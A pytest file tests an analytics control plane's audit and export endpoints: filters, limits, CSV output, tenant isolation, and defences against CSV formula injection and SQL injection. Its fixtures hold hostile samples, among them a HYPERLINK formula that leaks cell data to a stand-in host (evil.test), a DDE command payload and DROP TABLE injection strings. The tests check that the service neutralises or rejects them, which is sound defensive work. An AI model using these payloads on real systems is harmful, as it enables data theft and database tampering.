"""`GET /api/audit` (JSON and CSV) and `GET /api/export/{table}` through the control plane's
front door, over rows written into the session's chDB: filters, limits and their caps, CSV
headers and file names, formula neutralization, SQL injection attempts that change nothing,
and tenant isolation with real IdP tokens."""

from __future__ import annotations

import time
from collections.abc import AsyncIterator, Callable
from urllib.parse import quote

import pytest
from analytics_kit import MASTER, bearer, call, insert, parse_csv, tenant
from shared_kit import ConfigFor, user_token

from controlplane.analytics.common import csv_bytes, csv_cell
from controlplane.app import build
from controlplane.config import ControlPlaneConfig
from runtime.config import ServiceConfig
from runtime.stores import Stores
from runtime.stores.analytics import Analytics
from runtime.testing import Serving, serving
from strata.controlplane.v1 import audit_pb2, audit_pb2_grpc

AUDIT_HEADER = [
    "timestamp", "tenant_id", "session_id", "agent_id", "tool_name", "action", "status",
    "trace_id",
]  # fmt: skip
T0 = 1_736_942_400  # 2025-01-15T12:00:00Z (the audit log is kept forever)
# request_log and ai_request_log keep 90 and 365 days (TTL): their rows are recent.
RECENT = int(time.time()) // 86400 * 86400 - 2 * 86400 + 12 * 3600  # noon, two days ago


def iso(seconds: float) -> str:
    """What the export writes for a timestamp: ISO 8601 UTC with milliseconds."""
    whole = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(seconds))
    return f"{whole}.{round(seconds % 1 * 1000):03d}Z"


@pytest.fixture
async def cp(
    config_for: ConfigFor, stores_for: Callable[[ServiceConfig], Stores]
) -> AsyncIterator[Serving]:
    config = config_for(ControlPlaneConfig)
    async with serving(build(config, stores_for(config))) as svc:
        yield svc


def audit_row(t: str, at: float, action: str = "tool_call", tool: str = "search", **extra):
    return {
        "timestamp": at,
        "tenant_id": t,
        "session_id": "sess-1",
        "agent_id": "agent:planner",
        "tool_name": tool,
        "action": action,
        "status": "success",
        "trace_id": f"trace-{at}",
        "input_hash": "sha256:in",
        "output_hash": "sha256:out",
        **extra,
    }


async def count(analytics: Analytics, table: str) -> int:
    rows = await analytics.query(f"SELECT count() AS n FROM gateway.{table}")
    return int(rows[0]["n"])


# --- audit --------------------------------------------------------------------------------


async def test_audit_json_newest_first(cp: Serving, analytics: Analytics) -> None:
    t = tenant()
    await insert(
        analytics,
        "agent_audit_log",
        [
            audit_row(t, T0 + 0.123, "tool_call", "search"),
            audit_row(t, T0 + 60, "session_terminate", ""),
            audit_row(t, T0 + 120, "hitl_approve", "wire_transfer", status="approved"),
        ],
    )
    status, body, headers = await call(cp, "/api/audit", {"tenant_id": t})
    assert status == 200 and headers["Content-Type"].startswith("application/json")
    assert body["rows"] == 3
    assert [r["action"] for r in body["data"]] == [
        "hitl_approve", "session_terminate", "tool_call",
    ]  # fmt: skip
    assert body["data"][2] == {
        "timestamp": "2025-01-15T12:00:00.123Z",
        "tenant_id": t,
        "session_id": "sess-1",
        "agent_id": "agent:planner",
        "tool_name": "search",
        "action": "tool_call",
        "status": "success",
        "trace_id": f"trace-{T0 + 0.123}",
    }  # the stored hashes are not shown
    _, explicit, _ = await call(cp, "/api/audit", {"tenant_id": t, "format": "json"})
    assert explicit == body


async def test_audit_filters_action_and_time(cp: Serving, analytics: Analytics) -> None:
    t = tenant()
    await insert(
        analytics,
        "agent_audit_log",
        [
            audit_row(t, T0, "tool_call"),
            audit_row(t, T0 + 3600, "tool_call"),
            audit_row(t, T0 + 7200, "hitl_approve"),
            audit_row(t, T0 + 86400, "hitl_deny"),
        ],
    )

    async def actions(**params: str) -> list[str]:
        status, body, _ = await call(cp, "/api/audit", {"tenant_id": t, **params})
        assert status == 200, body
        assert body["rows"] == len(body["data"])
        return [r["action"] for r in body["data"]]

    assert await actions(action="hitl") == ["hitl_deny", "hitl_approve"]
    assert await actions(action="call") == ["tool_call", "tool_call"]
    assert await actions(action="TOOL") == []  # case matters
    # LIKE wildcards in the value are literal: `%` and `_` match only themselves.
    assert await actions(action="%") == []
    assert await actions(action="tool%call") == []
    assert await actions(action="hitl_") == ["hitl_deny", "hitl_approve"]  # a real `_`
    assert await actions(action="o_l") == []  # `_` does not stand for the `o` of `tool`
    # from/to: ISO 8601, both included; an offset counts; a bare `to` date is a whole day.
    assert await actions(**{"from": "2025-01-15T13:00:00Z"}) == [
        "hitl_deny", "hitl_approve", "tool_call",
    ]  # fmt: skip
    assert await actions(to="2025-01-15T13:00:00Z") == ["tool_call", "tool_call"]
    assert await actions(to="2025-01-15T12:59:59.999Z") == ["tool_call"]
    assert await actions(**{"from": "2025-01-15T14:00:00+01:00", "to": "2025-01-15T14:00:00"}) == [
        "hitl_approve", "tool_call",
    ]  # fmt: skip
    assert await actions(to="2025-01-15") == ["hitl_approve", "tool_call", "tool_call"]
    assert await actions(**{"from": "2025-01-16"}) == ["hitl_deny"]


async def test_audit_limit_default_cap_and_bad_values(cp: Serving, analytics: Analytics) -> None:
    t = tenant()
    await insert(analytics, "agent_audit_log", [audit_row(t, T0 + i) for i in range(1005)])

    async def rows(**params: str) -> int:
        status, body, _ = await call(cp, "/api/audit", {"tenant_id": t, **params})
        assert status == 200, body
        return int(body["rows"])

    assert await rows() == 100
    assert await rows(limit="7") == 7
    assert await rows(limit="1000") == 1000
    assert await rows(limit="1001") == 1000  # capped
    assert await rows(limit="2147483647") == 1000
    _, newest, _ = await call(cp, "/api/audit", {"tenant_id": t, "limit": "1"})
    assert newest["data"][0]["timestamp"] == "2025-01-15T12:16:44.000Z"  # T0 + 1004
    status, body, _ = await call(cp, "/api/audit", {"tenant_id": t, "format": "csv"})
    assert len(parse_csv(body)) == 101  # the header and the default 100
    for bad in ("0", "-5"):
        status, body, _ = await call(cp, "/api/audit", {"limit": bad})
        assert status == 400 and body["field"] == "limit"
    for bad in ("ten", "1.5", "99999999999", "1; DROP TABLE x"):
        status, body, _ = await call(cp, "/api/audit", {"limit": bad})
        assert status == 400 and "'limit'" in body["error"], bad


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"format": "xml"}, "format"),
        ({"format": ""}, "format"),
        ({"format": "CSV"}, "format"),
        ({"from": "yesterday"}, "from"),
        ({"from": "2025-01-15T25:00:00Z"}, "from"),
        ({"to": "2025-02-30"}, "to"),
        ({"to": "2025-01-15' OR '1'='1"}, "to"),
        ({"from": "2025-01-16", "to": "2025-01-15"}, "from"),
    ],
)
async def test_bad_audit_parameters_are_400(
    cp: Serving, params: dict[str, str], field: str
) -> None:
    status, body, _ = await call(cp, "/api/audit", params)
    assert status == 400
    assert body["error"] == "invalid_request" and body["field"] == field


async def test_audit_csv_attachment(cp: Serving, analytics: Analytics) -> None:
    t = tenant()
    await insert(
        analytics,
        "agent_audit_log",
        [
            audit_row(t, T0, tool='=HYPERLINK("http://evil.test/?x="&A1,"click")'),
            audit_row(t, T0 + 1, tool="+SUM(1,2)", session_id="-2+3", agent_id="@cmd"),
            audit_row(t, T0 + 2, tool="\tTAB", session_id="\rCR", agent_id='a,"b"\nc'),
            audit_row(t, T0 + 3, tool="plain-tool"),
        ],
    )
    status, body, headers = await call(cp, "/api/audit", {"tenant_id": t, "format": "csv"})
    assert status == 200
    assert headers["Content-Type"].startswith("text/csv")
    assert headers["Content-Disposition"] == "attachment; filename=audit_log.csv"
    table = parse_csv(body)
    assert table[0] == AUDIT_HEADER
    by_tool = {row[4]: row for row in table[1:]}
    assert set(by_tool) == {
        '\'=HYPERLINK("http://evil.test/?x="&A1,"click")',
        "'+SUM(1,2)",
        "'\tTAB",
        "plain-tool",
    }
    assert by_tool["'+SUM(1,2)"][2:4] == ["'-2+3", "'@cmd"]
    assert by_tool["'\tTAB"][2:4] == ["'\rCR", 'a,"b"\nc']  # quoted, kept whole
    assert by_tool["plain-tool"] == [
        "2025-01-15T12:00:03.000Z", t, "sess-1", "agent:planner", "plain-tool", "tool_call",
        "success", f"trace-{T0 + 3}",
    ]  # fmt: skip
    # No cell of the file starts a formula.
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in table for cell in r)


def test_csv_cells_are_neutralized() -> None:
    assert [csv_cell(v) for v in ("=1+1", "+1", "-1", "@x", "\tx", "\rx", "a=b", "", None)] == [
        "'=1+1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "a=b", "", "",
    ]  # fmt: skip
    assert csv_cell(True) == "true" and csv_cell(2.5) == "2.5" and csv_cell(-3) == "'-3"
    assert csv_bytes(["a", "b"], [["x,y", 'q"']]) == b'a,b\r\n"x,y","q"""\r\n'


async def test_sql_injection_through_the_audit_changes_nothing(
    cp: Serving, analytics: Analytics
) -> None:
    t = tenant()
    await insert(analytics, "agent_audit_log", [audit_row(t, T0), audit_row(tenant(), T0)])
    before = await count(analytics, "agent_audit_log")
    for params in (
        {"tenant_id": t, "action": "' OR 1=1 --"},
        {"tenant_id": t, "action": "x'); DROP TABLE gateway.agent_audit_log; --"},
        {"tenant_id": t, "action": "\\' OR 1=1 --"},
        {"tenant_id": t, "action": "{tenant:String}"},
    ):
        status, body, _ = await call(cp, "/api/audit", params)
        assert (status, body) == (200, {"data": [], "rows": 0}), params
    status, _, _ = await call(cp, "/api/audit", {"tenant_id": "x' OR 1=1 --"})
    assert status == 400
    assert await count(analytics, "agent_audit_log") == before
    _, mine, _ = await call(cp, "/api/audit", {"tenant_id": t})
    assert mine["rows"] == 1


async def test_audit_tenant_isolation_with_real_tokens(
    cp: Serving, analytics: Analytics, idp: str
) -> None:
    marker = tenant()
    await insert(
        analytics,
        "agent_audit_log",
        [audit_row("acme", T0, tool=marker), audit_row("globex", T0, tool=marker)],
    )
    alice = bearer(await user_token(idp))
    bob = bearer(await user_token(idp, "bob", "bob"))
    admin = bearer(await user_token(idp, "admin", "admin"))

    async def tenants(headers: dict[str, str], **params: str) -> set[str]:
        status, body, _ = await call(
            cp, "/api/audit", {"to": "2025-01-15T12:00:00Z", "limit": "1000", **params}, headers
        )
        assert status == 200, body
        return {r["tenant_id"] for r in body["data"] if r["tool_name"] == marker}

    assert await tenants(alice) == {"acme"}
    assert await tenants(bob) == {"globex"}
    assert await tenants(admin) == {"acme", "globex"}
    assert await tenants(admin, tenant_id="acme") == {"acme"}
    assert await tenants(MASTER) == {"acme", "globex"}
    # alice's whole answer is acme's, CSV too.
    _, body, _ = await call(cp, "/api/audit", {"limit": "1000"}, alice)
    assert {r["tenant_id"] for r in body["data"]} == {"acme"}
    _, text, _ = await call(cp, "/api/audit", {"format": "csv", "limit": "1000"}, alice)
    assert {row[1] for row in parse_csv(text)[1:]} == {"acme"}
    for params, headers in (
        ({"tenant_id": "globex"}, alice),
        ({"tenant_id": "acme", "format": "csv"}, bob),
        ({}, {**alice, "x-tenant-id": "globex"}),
    ):
        status, body, _ = await call(cp, "/api/audit", params, headers)
        assert status == 403 and body["error"] == "forbidden"
    tenantless = bearer(await user_token(idp, scope="openid"))
    status, _, _ = await call(cp, "/api/audit", {"tenant_id": "globex"}, tenantless)
    assert status == 403


# --- export -------------------------------------------------------------------------------

REQUEST_LOG_HEADER = [
    "timestamp", "tenant_id", "route_id", "method", "status_code", "latency_ms", "trace_id",
    "path", "request_size", "response_size", "client_ip", "user_agent", "consumer_name",
]  # fmt: skip
AI_REQUEST_LOG_HEADER = [
    "timestamp", "tenant_id", "model", "tokens_prompt", "tokens_completion", "cache_hit",
    "pii_detected", "latency_ms", "trace_id",
]  # fmt: skip


async def test_export_each_table_with_its_columns(cp: Serving, analytics: Analytics) -> None:
    t = tenant()
    await insert(
        analytics,
        "request_log",
        [
            {
                "timestamp": RECENT + 0.5,
                "tenant_id": t,
                "route_id": "r-1",
                "method": "POST",
                "status_code": 201,
                "latency_ms": 12.25,
                "trace_id": "tr-1",
                "path": "/api/orders",
                "request_size": 120,
                "response_size": 2048,
                "client_ip": "10.1.2.3",
                "user_agent": "=cmd|' /C calc'!A0",
                "consumer_name": "mobile-app",
            }
        ],
    )
    await insert(
        analytics,
        "ai_request_log",
        [
            {
                "timestamp": RECENT,
                "tenant_id": t,
                "model": "gpt-4o",
                "tokens_prompt": 10,
                "tokens_completion": 32,
                "cache_hit": True,
                "pii_detected": False,
                "latency_ms": 250.0,
                "trace_id": "tr-2",
                "provider": "openai",
            }
        ],
    )
    await insert(analytics, "agent_audit_log", [audit_row(t, RECENT, tool="@SUM(A1)")])

    status, body, headers = await call(cp, "/api/export/request_log", {"tenant_id": t})
    assert status == 200
    assert headers["Content-Type"].startswith("text/csv")
    assert headers["Content-Disposition"] == "attachment; filename=request_log.csv"
    assert parse_csv(body) == [
        REQUEST_LOG_HEADER,
        [
            iso(RECENT + 0.5), t, "r-1", "POST", "201", "12.25", "tr-1", "/api/orders",
            "120", "2048", "10.1.2.3", "'=cmd|' /C calc'!A0", "mobile-app",
        ],
    ]  # fmt: skip

    status, body, headers = await call(cp, "/api/export/ai_request_log", {"tenant_id": t})
    assert status == 200
    assert headers["Content-Disposition"] == "attachment; filename=ai_request_log.csv"
    assert parse_csv(body) == [
        AI_REQUEST_LOG_HEADER,
        [iso(RECENT), t, "gpt-4o", "10", "32", "true", "false", "250.0", "tr-2"],
    ]

    status, body, headers = await call(cp, "/api/export/agent_audit_log", {"tenant_id": t})
    assert status == 200
    assert headers["Content-Disposition"] == "attachment; filename=agent_audit_log.csv"
    table = parse_csv(body)
    assert table[0] == AUDIT_HEADER  # no input/output hashes
    assert table[1][4] == "'@SUM(A1)"


async def test_export_window_limit_and_cap(cp: Serving, analytics: Analytics) -> None:
    t = tenant()
    await insert(
        analytics,
        "request_log",
        [{"timestamp": RECENT + i, "tenant_id": t, "trace_id": f"n{i}"} for i in range(10_005)],
    )

    async def trace_ids(**params: str) -> list[str]:
        status, body, _ = await call(cp, "/api/export/request_log", {"tenant_id": t, **params})
        assert status == 200, body
        return [row[6] for row in parse_csv(body)[1:]]

    assert len(await trace_ids()) == 1000
    assert (await trace_ids(limit="3")) == ["n10004", "n10003", "n10002"]  # newest first
    assert len(await trace_ids(limit="10000")) == 10_000
    assert len(await trace_ids(limit="50000")) == 10_000  # capped
    window = {"from": iso(RECENT + 10), "to": iso(RECENT + 12)}
    assert await trace_ids(**window) == ["n12", "n11", "n10"]
    for params in ({"limit": "0"}, {"limit": "-1"}, {"limit": "many"}, {"from": "noon"},
                   {"from": "2025-01-16", "to": "2025-01-15"}):  # fmt: skip
        status, _, _ = await call(cp, "/api/export/request_log", params)
        assert status == 400, params


@pytest.mark.parametrize(
    "table",
    [
        "sts_token_issuance",
        "schema_migrations",
        "users",
        "REQUEST_LOG",
        "request_log; DROP TABLE x",
        "request_log WHERE 1=1 --",
        "gateway.request_log",
        "system.tables",
    ],
)
async def test_export_refuses_other_tables(cp: Serving, analytics: Analytics, table: str) -> None:
    before = await count(analytics, "request_log")
    status, body, _ = await call(cp, f"/api/export/{quote(table, safe='')}")
    assert (status, body) == (400, {"error": "Invalid table name"})
    assert await count(analytics, "request_log") == before


async def test_export_tenant_isolation_with_real_tokens(
    cp: Serving, analytics: Analytics, idp: str
) -> None:
    marker = tenant()
    await insert(
        analytics,
        "ai_request_log",
        [
            {"timestamp": RECENT, "tenant_id": who, "model": marker, "trace_id": marker}
            for who in ("acme", "globex")
        ],
    )
    alice = bearer(await user_token(idp))
    window = {"from": iso(RECENT), "to": iso(RECENT), "limit": "10000"}
    status, body, _ = await call(cp, "/api/export/ai_request_log", window, alice)
    assert status == 200
    assert {row[1] for row in parse_csv(body)[1:]} == {"acme"}
    _, body, _ = await call(cp, "/api/export/ai_request_log", window)
    assert {row[1] for row in parse_csv(body)[1:] if row[2] == marker} == {"acme", "globex"}
    status, body, _ = await call(
        cp, "/api/export/ai_request_log", {**window, "tenant_id": "globex"}, alice
    )
    assert status == 403 and body["error"] == "forbidden"
    tenantless = bearer(await user_token(idp, scope="openid"))
    status, _, _ = await call(cp, "/api/export/ai_request_log", window, tenantless)
    assert status == 403


async def test_export_over_grpc_too(cp: Serving, analytics: Analytics) -> None:
    t = tenant()
    await insert(analytics, "agent_audit_log", [audit_row(t, time.time())])
    stub = audit_pb2_grpc.AuditServiceStub(cp.channel)
    reply = await stub.ExportTable(
        audit_pb2.ExportTableRequest(table="agent_audit_log", tenant_id=t),
        metadata=(("authorization", MASTER["Authorization"]),),
        timeout=10,
    )
    assert reply.csv.filename == "agent_audit_log.csv"
    assert reply.csv.content_type == "text/csv"
    assert parse_csv(reply.csv.body.decode())[0] == AUDIT_HEADER
